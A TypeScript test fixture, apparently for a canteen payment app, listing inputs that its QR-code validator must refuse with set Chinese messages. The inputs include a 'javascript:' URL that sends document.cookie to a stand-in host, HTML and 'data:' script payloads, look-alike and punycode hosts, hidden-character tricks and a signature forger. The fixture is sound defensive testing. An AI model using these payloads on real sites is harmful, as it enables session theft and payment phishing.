/** Texts that try to pass for a window's code, with the words that each must be refused with. */
export interface Attack {
  readonly name: string
  readonly text: string
  readonly words: string
}

const FOREIGN = '这不是本系统的收款码'
const IMPOSTOR = '这个二维码在冒充本系统'
const UNSAFE = '这个二维码不安全'
const HIDDEN = '这个二维码里有隐藏字符'
const LONG = '内容太长，不是收款码'
const NO_CODE = '这不是收款码'
const BROKEN = '收款码不完整'
const TEN_KB = 10_000

/** Refused on the phone, before anything is asked of the server. `origin` is the app's, `code` a good one. */
export function attacks(origin: string, code: string): Attack[] {
  const { host, port } = new URL(origin)
  const link = (authority: string, path = `/p/?c=${code}`) => `http://${authority}${path}`
  return [
    { name: 'another host', text: `https://canteen.example.com/p/?c=${code}`, words: FOREIGN },
    { name: 'another port', text: link(`localhost:${Number(port) + 1}`), words: FOREIGN },
    { name: 'our host as a name to sign in with', text: link(`${host}@canteen.example.com`), words: FOREIGN },
    { name: 'our host as a part of another', text: link(`${host}.example.com`), words: FOREIGN },
    { name: 'digit one for the letter l', text: link(`1ocalhost:${port}`), words: IMPOSTOR },
    { name: 'Cyrillic o', text: link(`l\u043ecalhost:${port}`), words: IMPOSTOR },
    { name: 'punycode', text: link(`xn--lcalhost-53g:${port}`), words: IMPOSTOR },
    { name: 'javascript:', text: 'javascript:location.href="https://canteen.example.com/?"+document.cookie', words: UNSAFE },
    { name: 'data:', text: 'data:text/html,<script>alert(1)</script>', words: UNSAFE },
    { name: 'mixed case and a space before it', text: ' JaVaScRiPt:alert(1)', words: UNSAFE },
    { name: 'right-to-left override', text: link(host, `/p/?c=\u202e${code}`), words: HIDDEN },
    { name: 'NUL', text: `${code}\u0000`, words: HIDDEN },
    { name: 'HTML', text: '<img src=x onerror=alert(1)>', words: NO_CODE },
    { name: 'words', text: '今天中午吃什么', words: NO_CODE },
    { name: 'another path of ours', text: `${origin}/__mock/?c=${code}`, words: BROKEN },
    { name: 'a code cut short', text: `${origin}/p/?c=${code.slice(0, -4)}`, words: BROKEN },
    { name: '10 kB of link', text: `${origin}/p/?c=${'A'.repeat(TEN_KB)}`, words: LONG },
    { name: '10 kB of javascript:', text: `javascript:${'a'.repeat(TEN_KB)}`, words: LONG },
  ]
}

/** The right form under a wrong signature: only the server can tell. */
export const forged = (code: string): string => code.slice(0, -2) + (code.endsWith('AA') ? 'BB' : 'AA')
